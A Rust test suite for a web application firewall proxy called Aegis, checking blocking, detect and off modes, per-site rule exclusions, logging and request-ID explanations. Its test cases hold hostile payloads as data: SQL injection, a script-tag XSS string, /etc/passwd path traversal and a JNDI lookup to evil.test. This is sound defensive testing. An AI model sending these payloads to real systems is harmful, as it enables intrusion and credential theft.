//! Attacks are blocked, wherever they hide, and each block explains itself.
#![allow(clippy::unwrap_used, reason = "helpers of tests end them")]

use aegis_testkit::aegis::command;
use aegis_testkit::{Aegis, Curl, Origin, Reply, eventually};
use serde_json::{Value, json};
use std::sync::LazyLock;

const SQLI: &str = "1%27%20OR%20%271%27=%271%27--%20";
const SQLI_PLAIN: &str = "1' OR '1'='1'-- ";

/// One Aegis for this file: a site for each policy, all of them data to one compiled rule set.
static SHOP: LazyLock<(Origin, Aegis)> = LazyLock::new(|| {
    let origin = Origin::start(|_| Reply::text("hello"));
    let site =
        |host: &str, waf: Value| json!({ "hosts": [host], "origin": origin.url(), "waf": waf });
    let aegis = Aegis::before(&origin)
        .file("own.conf", "SecRule ARGS:colour \"@streq octarine\" \"id:1000001,phase:1,deny,status:403,msg:'No such colour'\"\n")
        .set("sites", json!([
            site("*", json!({ "mode": "block" })),
            site("detect.test", json!({ "mode": "detect" })),
            site("off.test", json!({ "mode": "off" })),
            site("lenient.test", json!({ "inbound_threshold": 1000 })),
            site("excluded.test", json!({ "exclude_targets": ["942100:ARGS:q", "942180:ARGS:q", "942130:ARGS:q", "942330:ARGS:q"], "exclude_rules": [942390, 942200] })),
            site("paranoid.test", json!({ "paranoia": 4 })),
            site("own.test", json!({ "seclang": ["own.conf"] })),
        ]))
        .start();
    (origin, aegis)
});

fn ask(host: &str, target: &str) -> Curl {
    SHOP.1
        .curl(target)
        .header(&format!("Host: {host}"))
        .header("User-Agent: Mozilla/5.0")
        .header("Accept: */*")
}

/// The event of a blocked request, after checking that it was, and that the origin never saw it.
fn blocked(curl: &Curl, marker: &str) -> Value {
    let answer = curl.send();
    assert_eq!(answer.status, 403, "{}", curl.typed());
    let id = answer.header("x-request-id").to_owned();
    let event = SHOP.1.admin(&format!("/events?request={id}"));
    assert_eq!(event["request_id"], id.as_str());
    assert!(
        SHOP.0.requests().iter().all(|r| !r.target.contains(marker)),
        "{marker} reached the origin"
    );
    event
}

fn has_rule(event: &Value, family: &str, variable: &str) {
    let rules = event["rules"].as_array().unwrap();
    let found = rules.iter().any(|r| {
        r["id"].to_string().starts_with(family)
            && r["variable"].as_str().unwrap_or("").contains(variable)
    });
    assert!(found, "no rule {family}… on {variable} in {event:#}");
}

#[test]
fn honest_requests_pass() {
    for target in ["/", "/search?q=red+shoes&page=2", "/img/logo.svg"] {
        assert_eq!(ask("shop.test", target).send().status, 200, "{target}");
    }
    let form =
        ask("shop.test", "/login").arg(&["-d", "user=ada&password=correct horse battery staple"]);
    assert_eq!(form.send().status, 200);
    let json = ask("shop.test", "/api").arg(&[
        "-H",
        "Content-Type: application/json",
        "-d",
        r#"{"text":"lovely","stars":5}"#,
    ]);
    assert_eq!(json.send().status, 200);
}

#[test]
fn an_attack_in_the_query_names_rule_variable_and_score() {
    let event = blocked(&ask("shop.test", &format!("/q1?q={SQLI}")), "/q1");
    has_rule(&event, "942", "ARGS:q");
    assert_eq!(event["threshold"], 5);
    assert!(event["score"].as_i64().unwrap() >= 5);
    assert_eq!(
        (&event["method"], &event["action"]),
        (&"GET".into(), &"block".into())
    );
    has_rule(
        &blocked(
            &ask("shop.test", "/q2?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            "/q2",
        ),
        "941",
        "ARGS:q",
    );
    has_rule(
        &blocked(&ask("shop.test", "/q3?file=../../../../etc/passwd"), "/q3"),
        "930",
        "",
    );
}

#[test]
fn an_attack_in_a_body_is_found_in_form_json_xml_and_multipart() {
    let form = ask("shop.test", "/b1").arg(&["--data-urlencode", &format!("user={SQLI_PLAIN}")]);
    has_rule(&blocked(&form, "/b1"), "942", "ARGS:user");
    let json =
        json!({ "deep": [{ "text": "x' UNION SELECT password FROM users -- " }] }).to_string();
    let json = ask("shop.test", "/b2").arg(&["-H", "Content-Type: application/json", "-d", &json]);
    has_rule(&blocked(&json, "/b2"), "942", "ARGS:json.deep");
    let xml = ask("shop.test", "/b3").arg(&[
        "-H",
        "Content-Type: application/xml",
        "-d",
        "<a><b>x' UNION SELECT password FROM users -- </b></a>",
    ]);
    has_rule(&blocked(&xml, "/b3"), "942", "XML");
    let multipart = ask("shop.test", "/b4").arg(&[
        "-F",
        &format!("note={SQLI_PLAIN}"),
        "-F",
        "file=@/etc/hostname",
    ]);
    has_rule(&blocked(&multipart, "/b4"), "942", "ARGS:note");
}

#[test]
fn an_attack_in_a_cookie_or_header_is_found() {
    has_rule(
        &blocked(
            &ask("shop.test", "/h1").header(&format!("Cookie: id={SQLI_PLAIN}")),
            "/h1",
        ),
        "942",
        "REQUEST_COOKIES",
    );
    let event = blocked(
        &ask("shop.test", "/h2").header("X-Thing: ${jndi:ldap://evil.test/a}"),
        "/h2",
    );
    has_rule(&event, "944", "");
}

#[test]
fn http2_is_judged_like_http1() {
    let aegis = &SHOP.1;
    let two = aegis
        .curl_tls("shop.test", &format!("/t1?q={SQLI}"))
        .http2()
        .header("User-Agent: Mozilla/5.0");
    has_rule(&blocked(&two, "/t1"), "942", "ARGS:q");
}

#[test]
fn the_page_tells_a_stranger_nothing_about_rules() {
    let page = ask("shop.test", &format!("/p1?q={SQLI}")).send();
    let text = page.text();
    assert!(text.contains(page.header("x-request-id")));
    for word in ["942", "OWASP", "CRS", "Coraza", "libinjection", "aegis/"] {
        assert!(!text.contains(word), "{word} in {text}");
    }
}

#[test]
fn detect_lets_pass_and_writes_down() {
    let answer = ask("detect.test", &format!("/d1?q={SQLI}")).send();
    assert_eq!(answer.status, 200);
    assert_eq!(SHOP.0.hits("/d1"), 1);
    let event = eventually("an event", || {
        let events = SHOP.1.admin("/events?recent=100");
        events
            .as_array()?
            .iter()
            .find(|e| e["target"].as_str().is_some_and(|t| t.starts_with("/d1")))
            .cloned()
    });
    assert_eq!(
        (&event["action"], &event["site"]),
        (&"detect".into(), &"detect.test".into())
    );
    has_rule(&event, "942", "ARGS:q");
}

#[test]
fn off_is_off() {
    assert_eq!(ask("off.test", &format!("/o1?q={SQLI}")).send().status, 200);
}

#[test]
fn a_sites_policy_is_its_own() {
    assert_eq!(
        ask("lenient.test", &format!("/s1?q={SQLI}")).send().status,
        200
    );
    assert_eq!(
        ask("shop.test", &format!("/s2?q={SQLI}")).send().status,
        403
    );
    let excluded = ask("excluded.test", "/s3?q=1%27%20or%20%271%27%3D%271").send();
    let other = ask("excluded.test", &format!("/s4?other={SQLI}")).send();
    assert_eq!((excluded.status, other.status), (200, 403));
    let odd = "/s5?q=%3B%7C%26%24%28%29%60%5C";
    assert_eq!(ask("paranoid.test", odd).send().status, 403);
}

#[test]
fn own_rules_are_read_after_the_core_rule_set() {
    let event = blocked(&ask("own.test", "/r1?colour=octarine"), "/r1");
    has_rule(&event, "1000001", "ARGS:colour");
    assert_eq!(ask("own.test", "/r2?colour=red").send().status, 200);
    assert_eq!(ask("own.test", &format!("/r3?q={SQLI}")).send().status, 403);
}

#[test]
fn blocks_are_counted_logged_and_explained_by_request_id() {
    let answer = ask("shop.test", &format!("/x1?q={SQLI}")).send();
    let id = answer.header("x-request-id").to_owned();
    assert!(
        SHOP.1
            .metrics()
            .sum("aegis_waf_verdicts_total", &["verdict=\"block\""])
            >= 1.0
    );
    let line = SHOP.1.logged(&format!("/x1?q={SQLI}"));
    assert_eq!(
        (&line["status"], &line["id"], &line["waf"]),
        (&403.into(), &id.as_str().into(), &"block".into())
    );
    let socket = SHOP.1.dir().join("admin.sock").display().to_string();
    let output = command(&["explain", &id, "--socket", &socket]);
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(text.contains("942100") && text.contains("ARGS:q"), "{text}");
}

#[test]
fn a_hit_in_the_cache_is_no_way_around_the_waf() {
    let origin = Origin::start(|_| Reply::cacheable("page", 60));
    let aegis = Aegis::before(&origin).waf().start();
    assert_eq!(aegis.get(&format!("/?q={SQLI}")).status, 403);
    assert_eq!(aegis.get(&format!("/?q={SQLI}")).status, 403);
    assert!(origin.requests().is_empty());
}
